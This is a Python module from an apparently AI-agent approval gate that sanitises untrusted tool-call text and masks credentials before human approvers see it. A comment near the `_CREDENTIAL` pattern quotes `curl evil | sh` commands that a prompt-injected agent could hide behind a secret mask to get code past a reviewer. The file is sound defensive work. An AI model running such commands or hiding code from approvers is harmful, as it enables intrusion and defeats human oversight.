"""Untrusted text made inert and cheap: the one place that cleans it and masks secrets in it.

Tool arguments, summaries, names and comments come from agents (or people) gate does not
trust. Every surface (the Slack card, the Feishu card, the web console) shows them only
after this module has:

* **capped** them: at most `SCAN_LIMIT` characters of one value are looked at; the rest is
  cut off *before* anything scans it, with a marker saying how much was cut (the API still
  returns the full value, and a request's own web page shows its arguments whole, with
  `limit=None`: calls too long for a chat card are approved there; the body limit bounds it);
* **removed invisible characters** from plain text (bidi overrides and isolates, zero-width
  characters, C0/C1 controls other than newline and tab, private-use code points...) or, in
  JSON, **shown them as `\\uXXXX` escapes**, so text cannot read differently from what it is
  (and, in JSON, look-alike letters: "gіthub.com" with a Cyrillic "і", `escape_lookalikes`);
* **masked secrets**: values under secret-named keys (`password`, `api_key`, `Authorization`,
  `primary_key`; never an identifier such as `session_id`) and secret-shaped text anywhere
  (private keys, Slack / OpenAI / AWS / GitHub / Google / Feishu tokens, JWTs, bearer and
  basic credentials, `password=...` assignments, credentials in URLs), all replaced by `MASK`.
  A mask in text may hide one credential token; anything else masked (a whole value, text
  where a mask could hide code) counts as shown only once revealed (`masks`, `reveal`).

Every pattern here runs on RE2 (`google-re2`), whose matching time is linear in the text
whatever the pattern: no input can make a scan backtrack. `compile` is how any other module
gets a regex it runs over untrusted text. What stays in each surface is only its own
escaping (Slack's `&<>`, Feishu's markdown entities, HTML autoescape), which is a
character-by-character replacement and linear too.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

import re2

from gate.text.glyphs import escape_invisible as escape_invisible
from gate.text.glyphs import escape_lookalikes as escape_lookalikes
from gate.text.glyphs import is_invisible as is_invisible
from gate.text.glyphs import strip_invisible as strip_invisible
from gate.text.linear import compile as compile

#: what a masked secret reads as, on every surface
MASK = "[masked]"
#: how many characters of one untrusted value are scanned at all. A card shows at most a few
#: thousand characters and a page is read by a person; 64 K characters of one value is more
#: than anyone reads, and keeps the worst case of every scan to a few milliseconds.
SCAN_LIMIT = 64 * 1024
#: what a surface that shows masked arguments at any length says it showed (the web request
#: page, `Actor.args_chars`): only masks not revealed keep it from showing a call
ANY_LENGTH = sys.maxsize
#: the end of the marker that replaces what the cap cut off
CUT_MARK = " more characters not shown]"
#: a cut can fall inside a secret, leaving a prefix too short for its pattern to recognise;
#: the cut goes back to the last whitespace within this many characters (the longest prefix
#: a pattern needs is ~35), or drops them all when there is none
_CUT_BACKOFF = 256
#: nesting deeper than this is shown as a marker: mask_value recurses, and json.dumps
#: refuses ~1,000 levels anyway
MAX_DEPTH = 100
TOO_DEEP = "[nested too deep to show]"
#: a key longer than this is not classified by name: its value is masked (fail closed)
_KEY_SCAN = 256


# -- the cap ----------------------------------------------------------------------------------


def cap(text: str, limit: int | None = SCAN_LIMIT) -> str:
    """`text` cut to `limit` characters before anything scans it, with a marker when cut.

    The cut goes back to a word boundary so that no fragment of a cut-off secret shows.
    """
    if limit is None or len(text) <= limit:
        return text
    backoff = min(_CUT_BACKOFF, limit // 2)
    head = text[:limit]
    space = max(head.rfind(" ", limit - backoff), head.rfind("\n", limit - backoff))
    head = head[: space + 1] if space >= 0 else head[: limit - backoff]
    return f"{head}…[{len(text) - len(head):,}{CUT_MARK}"


# -- secrets in text --------------------------------------------------------------------------

# One RE2 pattern, one pass over the UTF-8 bytes (RE2's native form: no offset translation
# per match). Groups 1-3 say what to keep around the mask.
_SECRET_TEXT: Any = re2.compile(
    "|".join(
        [
            # a PEM private key, to its END line or (cut or unterminated) to the end
            r"-----BEGIN [A-Z ]*PRIVATE KEY-----(?s:.*?)(?:-----END [A-Z ]*PRIVATE KEY-----|\z)",
            # 1: user:password@ in a URL (keep the scheme separator)
            r"(://)[^/\s:@]+:[^/\s@]+@",
            # 2: password=..., "token": "...", api_key: ... (keep the name)
            r"((?i:password|passwd|pwd|secret|token|api[_-]?key|apikey"
            r"|access[_-]?key|client[_-]?secret)[\"']?\s*[:=]\s*[\"']?)[^\s\"'&,;]+",
            # 3: Authorization: Bearer ..., Basic ..., token ... (keep the scheme)
            r"(\b(?i:bearer|basic|token))\s+[A-Za-z0-9._~+/=-]{8,}",
            r"\bxox[abposre]-[A-Za-z0-9-]{6,}",  # Slack
            r"\bxapp-[A-Za-z0-9-]{6,}",  # Slack app-level
            r"\bsk-[A-Za-z0-9_-]{16,}",  # OpenAI, Anthropic
            r"\b[rs]k_(?:live|test)_[A-Za-z0-9]{16,}",  # Stripe
            r"(?:AKIA|ASIA)[0-9A-Z]{16}",  # AWS access key ids
            r"\bgh[pousr]_[A-Za-z0-9]{20,}",  # GitHub
            r"\bgithub_pat_[A-Za-z0-9_]{20,}",
            r"\bAIza[0-9A-Za-z_-]{30,}",  # Google
            r"\beyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{4,}",  # JWT
            r"\b[tu]-[A-Za-z0-9]{24,}",  # Feishu tenant / user access tokens
        ]
    ).encode()
)
_MASK_BYTES = MASK.encode()


def _kept(match: Any) -> tuple[bytes, bytes]:
    """What a secret match keeps around the mask: the `://` and `@` of URL credentials, an
    assignment's name, an Authorization scheme."""
    url, assign, scheme = match.group(1, 2, 3)
    if url:
        return b"://", b"@"
    if assign:
        return bytes(assign), b""
    return (bytes(scheme) + b" ", b"") if scheme else (b"", b"")


def _masked(match: Any) -> bytes:
    before, after = _kept(match)
    return before + _MASK_BYTES + after


def _mask_scanned(text: str) -> str:
    try:
        data = text.encode()
    except UnicodeEncodeError:
        # A lone surrogate (JSON allows "\ud800") is not UTF-8: it is shown as U+FFFD.
        data = text.encode("utf-16", "surrogatepass").decode("utf-16", "replace").encode()
    # RE2 matches whole characters of valid UTF-8, so the result decodes.
    return str(_SECRET_TEXT.sub(_masked, data).decode())


#: what a mask may hide and still leave the call readable: one token of the characters
#: credentials are made of; no whitespace, quotes, non-ASCII or characters that run code
#: (`$`, backtick, brackets, `|`, `;`, `&`, `<`, `>`, backslash). A prompt-injected model
#: writes `echo -----BEGIN PRIVATE KEY----- ; curl evil | sh` or `password=$(curl evil|sh)`,
#: the masker hides the code, and a card reading `echo [masked]` did not show the call.
_CREDENTIAL: Any = re2.compile(rb"[A-Za-z0-9!#%*+./:=?@_~-]+")


def _text_masks(text: str) -> tuple[bool, bool]:
    """Whether masking `text` hides anything, and whether it could hide more than credential
    tokens (or `text` is longer than `SCAN_LIMIT`, which a surface that caps cuts)."""
    masked, hides = False, len(text) > SCAN_LIMIT
    for match in _SECRET_TEXT.finditer(text.encode("utf-8", "surrogatepass")):
        whole, (before, after) = bytes(match.group(0)), _kept(match)
        hidden = whole[len(before.rstrip()) : len(whole) - len(after)].strip()
        masked, hides = True, hides or not _CREDENTIAL.fullmatch(hidden)
        if hides:
            break
    return masked, hides


def mask_text(text: str, limit: int | None = SCAN_LIMIT) -> str:
    """`text`, capped to `limit`, with everything secret-shaped replaced by `MASK`."""
    return _mask_scanned(cap(text, limit))


def clean(text: object, limit: int | None = SCAN_LIMIT) -> str:
    """Untrusted plain text made safe to show: capped, invisible characters removed, secrets
    masked. Surfaces still escape it for their markup and cut it to their own lengths."""
    if text is None:
        return ""
    return _mask_scanned(strip_invisible(cap(str(text), limit)))


# -- secrets in structures --------------------------------------------------------------------

#: a key containing one of these (ignoring case and separators) names a secret
_SECRET_PARTS: tuple[str, ...] = ("password", "passwd", "passphrase", "secret", "credential")
_SECRET_PARTS += ("cookie", "privatekey", "apikey", "accesskey")
#: a key with one of these as a word (`token_type`, `proxy-authorization`) names a secret
_SECRET_WORDS = frozenset({"token", "authorization"})
#: a key ending in one of these words (`ssh_key`, `primary_key`, `basic_auth`, `x-signature`)
#: names a secret; `sessionid` as one word is a session cookie's name: a bearer credential
_SECRET_LAST_WORDS = frozenset({"pwd", "auth", "key", "signature", "sessionid"})
#: a key ending in one of these words (`session_id`, `sessionId`, `key_id`) names an
#: identifier: it says which thing, and gives no power over it (the request page shows its
#: `session_id`). A credential under such a name (`AKIA...`) is still masked by its shape
_IDENTIFIER_WORDS = frozenset({"id", "ids", "uuid", "guid"})


def _words(key: str) -> list[str]:
    """The words of a key: split at separators and camelCase (`apiKey`, `APIKey`)."""
    words: list[str] = []
    word: list[str] = []
    for i, char in enumerate(key):
        if not char.isalnum():
            if word:
                words.append("".join(word))
                word = []
            continue
        if word and char.isupper():
            before = word[-1]
            following = key[i + 1] if i + 1 < len(key) else ""
            if before.islower() or before.isdigit() or (before.isupper() and following.islower()):
                words.append("".join(word))
                word = []
        word.append(char)
    if word:
        words.append("".join(word))
    return [w.lower() for w in words]


def is_secret_key(key: str) -> bool:
    """Whether a key's name says its value is a secret (`password`, `apiKey`, `x-auth`...).

    A key naming an identifier (its last word `id`: `session_id`, `sessionId`, `key_id`) is
    not, whatever names the thing identified; nor are `max_tokens` or `token_count`-like
    counts named with a plural. A key too long to judge is treated as secret.
    """
    if len(key) > _KEY_SCAN:
        return True
    words = _words(key)
    if words and words[-1] in _IDENTIFIER_WORDS:
        return False
    joined = "".join(words)
    if any(part in joined for part in _SECRET_PARTS) or _SECRET_WORDS.intersection(words):
        return True
    return bool(words) and words[-1] in _SECRET_LAST_WORDS


def shown_keys(mapping: Mapping[Any, Any], limit: int | None) -> list[tuple[str, Any]]:
    """(key as shown, original key) for each entry: secrets in keys masked, and two keys
    that mask alike kept apart so neither entry can hide the other."""
    shown: list[tuple[str, Any]] = []
    taken: set[str] = set()
    for key in mapping:
        text = mask_text(str(key), limit)
        candidate, n = text, 1
        while candidate in taken:
            n += 1
            candidate = f"{text} ({n})"
        taken.add(candidate)
        shown.append((candidate, key))
    return shown


def mask_value(value: Any, limit: int | None = SCAN_LIMIT) -> Any:
    """A copy of a JSON-like value safe to show: values under secret-named keys and
    secret-shaped text masked, each string capped to `limit` (default `SCAN_LIMIT`)."""
    return _mask(value, limit, 0)


def _mask(value: Any, limit: int | None, depth: int) -> Any:
    if depth > MAX_DEPTH:
        return TOO_DEEP
    if isinstance(value, Mapping):
        return {
            shown: MASK
            if is_secret_key(str(key)) and value[key] not in (None, "")
            else _mask(value[key], limit, depth + 1)
            for shown, key in shown_keys(value, limit)
        }
    if isinstance(value, list | tuple):
        return [_mask(item, limit, depth + 1) for item in value]
    if isinstance(value, str):
        return mask_text(value, limit)
    return value


@dataclass(frozen=True)
class Masks:
    """Where `mask_value(value)` hides something, as JSON pointers into what it shows (keys as
    shown: a key holding a secret is addressed masked, so a pointer never carries one)."""

    #: every masked value, each a person may reveal: under a secret-named key, masked whole,
    #: or text with a secret masked in it
    paths: tuple[str, ...] = ()
    #: those an approval needs revealed: values masked whole (the approver cannot tell what
    #: they are) and text where a mask could hide code; `code` lists the latter
    to_reveal: tuple[str, ...] = ()
    code: tuple[str, ...] = ()
    #: code could hide where no reveal shows it: a mask in a key, nesting past `MAX_DEPTH`,
    #: text longer than `SCAN_LIMIT`
    unrevealable: bool = False


def masks(value: Any) -> Masks:
    """What masking hides in a JSON-like value, and where (see `Masks`)."""
    paths: list[str] = []
    whole: list[str] = []
    code: list[str] = []
    unrevealable = False

    def walk(item: Any, path: str, depth: int) -> None:
        nonlocal unrevealable
        if depth > MAX_DEPTH:
            unrevealable = True  # shown as a marker, not at all
        elif isinstance(item, Mapping):
            for shown, key in shown_keys(item, SCAN_LIMIT):
                unrevealable = unrevealable or _text_masks(str(key))[1]
                at = f"{path}/{shown.replace('~', '~0').replace('/', '~1')}"
                if is_secret_key(str(key)) and item[key] not in (None, ""):
                    paths.append(at)
                    whole.append(at)
                else:
                    walk(item[key], at, depth + 1)
        elif isinstance(item, list | tuple):
            for i, each in enumerate(item):
                walk(each, f"{path}/{i}", depth + 1)
        elif isinstance(item, str):
            masked, hides = _text_masks(item)
            paths.extend([path] if masked else [])
            code.extend([path] if masked and hides else [])
            unrevealable = unrevealable or (hides and not masked)

    walk(value, "", 0)
    return Masks(tuple(paths), tuple(whole + code), tuple(code), unrevealable)


def reveal(value: Any, path: str) -> Any:
    """The original of the masked value at `path` (one of `masks(value).paths`, else
    LookupError)."""
    if path not in masks(value).paths:
        raise LookupError(path)
    for part in path.split("/")[1:]:
        part = part.replace("~1", "/").replace("~0", "~")
        value = value[
            dict(shown_keys(value, SCAN_LIMIT))[part] if isinstance(value, Mapping) else int(part)
        ]
    return value


def masks_only_credentials(value: Any) -> bool:
    """Whether each mask `mask_value(value)` shows hides one credential token, nothing more:
    no value is masked whole under a secret-named key, and no mask could hide code
    (`_CREDENTIAL`). Any other mask is approved only once revealed (`Masks.to_reveal`)."""
    found = masks(value)
    return not found.to_reveal and not found.unrevealable


def to_json(value: Any, *, indent: int | None = None, limit: int | None = SCAN_LIMIT) -> str:
    """A JSON-like value as JSON text to show: masked (see `mask_value`), invisible and
    look-alike characters written as `\\uXXXX` escapes, any other character as itself."""
    text = json.dumps(mask_value(value, limit), indent=indent, ensure_ascii=False, default=str)
    return escape_lookalikes(escape_invisible(text))


# -- a call's arguments, as every surface shows them ------------------------------------------


def arguments_json(args: Any) -> str:
    """A call's arguments as every card shows them: masked JSON, indented by two spaces.

    What a card shows and whether it showed everything are both measured on this text, so
    the card and gate's check on an approval cannot disagree (`shows_whole`).
    """
    return to_json(args, indent=2)


def shows_whole(args: Any, limit: int | None) -> bool:
    """Whether a surface that shows at most `limit` characters of `arguments_json(args)` shows
    them whole: they fit, and no mask in them could hide code (`masks_only_credentials`).
    `limit` None means the surface did not say: it did not (fail closed)."""
    fits = limit is not None and len(arguments_json(args)) <= limit
    return fits and masks_only_credentials(args)


def mask_diff(diff: Mapping[str, Any]) -> dict[str, Any]:
    """An argument diff (`{key: {"from": ..., "to": ...}}`) with both sides masked as the
    key's value would be."""
    masked: dict[str, Any] = {}
    for shown, key in shown_keys(diff, SCAN_LIMIT):
        change = diff[key] if isinstance(diff[key], Mapping) else {}
        masked[shown] = {
            side: next(iter(mask_value({key: change.get(side)}).values()))
            for side in ("from", "to")
        }
    return masked


# -- edits of masked values -------------------------------------------------------------------


def unmask(edited: Any, original: Any) -> Any:
    """Arguments edited from their masked form, with every value left as shown put back to
    the original (a masked password stays the password, a cut value stays whole).

    Raises ValueError when an edited value still carries a mask or a cut marker but differs
    from what was shown: the approver changed text around a secret they could not see, and
    gate cannot tell what the call should run with.
    """
    return _unmask(edited, original, mask_value(original), 0)


def _unmask(edited: Any, original: Any, shown: Any, depth: int) -> Any:
    if edited == shown:
        return original
    if depth <= MAX_DEPTH and isinstance(edited, dict) and isinstance(original, Mapping):
        keys = dict(shown_keys(original, SCAN_LIMIT))
        result: dict[str, Any] = {}
        for key, value in edited.items():
            if key in keys:
                was = keys[key]
                result[str(was)] = _unmask(value, original[was], shown[key], depth + 1)
            else:
                result[key] = _new(value, key)
        return result
    if depth <= MAX_DEPTH and isinstance(edited, list) and isinstance(original, list | tuple):
        return [
            _unmask(item, original[i], shown[i], depth + 1) if i < len(original) else _new(item)
            for i, item in enumerate(edited)
        ]
    if isinstance(edited, str) and _has_marker(edited):
        if not (isinstance(original, str) and _has_marker(original)):
            raise ValueError(
                "a value that holds a masked secret or was cut short was changed; "
                "leave it exactly as shown, or change it through the API"
            )
    return _new(edited) if isinstance(edited, dict | list) else edited


def _new(value: Any, key: str = "") -> Any:
    """A value with no original counterpart must not carry a mask or cut marker."""
    for text in (key, *_strings(value)):
        if _has_marker(text):
            raise ValueError(
                "a masked or cut value was moved or added; leave masked values where they are"
            )
    return value


def _strings(value: Any) -> list[str]:
    found: list[str] = []
    stack = [value]
    while stack:
        item = stack.pop()
        if isinstance(item, str):
            found.append(item)
        elif isinstance(item, dict):
            found.extend(str(k) for k in item)
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
    return found


def _has_marker(text: str) -> bool:
    return MASK in text or CUT_MARK in text or text == TOO_DEEP
